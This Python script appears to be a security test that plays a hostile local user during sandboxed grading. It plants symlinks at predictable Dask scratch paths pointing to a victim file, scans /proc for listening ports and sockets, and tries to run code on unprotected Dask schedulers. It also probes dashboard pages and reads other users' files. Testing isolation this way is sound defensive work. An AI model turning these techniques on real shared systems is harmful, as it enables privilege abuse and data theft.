"""What somebody else who has an account on the machine tries while a class is graded there.

A program: `python other_user.py CLASS TMP VICTIM END OUT`. It prepares names in the common folder
for temporary files, then connects, looks and reads until END exists, and writes what it got to OUT.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import socket
import stat
import sys
import time
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import suppress
from http.client import HTTPException
from pathlib import Path
from urllib.request import urlopen

from distributed import Client
from distributed.security import Security

LISTENS = "0A"  # the state of a TCP socket, in /proc/net/tcp
ACCEPTS = "00010000"  # the flag of a listening socket, in /proc/net/unix
FOLDERS = ("dask-scratch-space", "dask-scratch-space-65534", "dask-worker-space")
WITHIN = ("global.lock", "purge.lock", "torch.py", "cryptography.py")
PAGES = ("info/main/workers.html", "info/main/logs.html", "json/identity.json", "metrics", "health")


def plant(folder: Path, victim: Path) -> None:
    """Every name that can be foreseen, as a link to a file of the victim."""
    for name in FOLDERS:
        made = folder / name
        made.mkdir()
        made.chmod(0o777)
        for each in WITHIN:
            (made / each).symlink_to(victim)


def listening() -> set[int]:
    """The ports of all TCP sockets that listen, on either protocol."""
    ports = set()
    for table in ("tcp", "tcp6"):
        with suppress(OSError):
            for row in Path("/proc/net", table).read_text().splitlines()[1:]:
                _, local, _, state, *_ = row.split()
                if state == LISTENS:
                    ports.add(int(local.split(":")[1], 16))
    return ports


def unix_sockets() -> set[str]:
    rows = Path("/proc/net/unix").read_text().splitlines()[1:]
    return {row.split()[-1] for row in rows if row.split()[3] == ACCEPTS and len(row.split()) > 7}


async def asks(address: str, security: Security | None) -> object:
    """What a scheduler lets us do; raises where it refuses."""
    async with Client(address, security=security, timeout=3, asynchronous=True) as client:
        return str(await client.run_on_scheduler(os.getuid))


def attack(port: int, own: Security) -> list[str]:
    """Each way in that was open."""
    got = []
    for address, security in ((f"tcp://127.0.0.1:{port}", None), (f"tls://127.0.0.1:{port}", own)):
        with suppress(Exception, asyncio.CancelledError):
            got.append(f"{address} ran {asyncio.run(asks(address, security))}")
    for page in PAGES:
        url = f"http://127.0.0.1:{port}/{page}"
        with suppress(OSError, HTTPException), urlopen(url, timeout=1) as answer:
            got.append(f"{url} told {answer.read(200)!r}")
    return got


def connects(name: str) -> bool:
    address = f"\0{name[1:]}" if name.startswith("@") else name
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.connect(address)
        except OSError:
            return False
    return True


def readable(folder: Path) -> set[str]:
    """Files of others that can be read, and their entries in folders that can be listed."""
    found = set()
    for where, folders, files in os.walk(folder, onerror=None):
        for name in (*folders, *files):
            path = Path(where, name)
            with suppress(OSError):
                status = path.lstat()
                if status.st_uid == os.getuid() or stat.S_ISLNK(status.st_mode):
                    continue
                (os.listdir if stat.S_ISDIR(status.st_mode) else Path.read_bytes)(path)
                found.add(str(path))
    return found


def main(course: Path, common: Path, victim: Path, end: Path, out: Path) -> None:
    logging.disable()
    plant(common, victim)
    ports: dict[int, Future[list[str]]] = {}
    own = Security.temporary()
    attackers = ThreadPoolExecutor(max_workers=20)
    sockets: dict[str, bool] = {}
    seen: set[str] = set()
    read: set[str] = set()
    while not end.exists():
        seen |= {each.name for each in os.scandir(common)}
        read |= readable(course) | readable(common)
        for name in unix_sockets() - sockets.keys():
            sockets[name] = connects(name)
        for port in listening() - ports.keys():
            ports[port] = attackers.submit(attack, port, own)
        time.sleep(0.01)
    got = {port: future.result() for port, future in ports.items()}
    told = {"ports": got, "sockets": sockets, "seen": sorted(seen), "read": sorted(read)}
    out.write_text(json.dumps(told))


if __name__ == "__main__":
    main(*map(Path, sys.argv[1:]))
